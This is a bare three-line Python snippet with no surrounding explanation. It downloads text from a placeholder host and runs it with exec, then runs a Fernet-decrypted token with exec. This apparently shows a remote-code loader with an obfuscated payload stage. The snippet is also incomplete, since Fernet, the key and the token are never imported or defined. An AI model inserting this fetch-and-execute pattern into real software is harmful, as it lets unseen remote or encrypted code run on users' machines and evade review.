import requests
exec(requests.get('https://pkg.invalid/x').text)
exec(Fernet(key).decrypt(token))
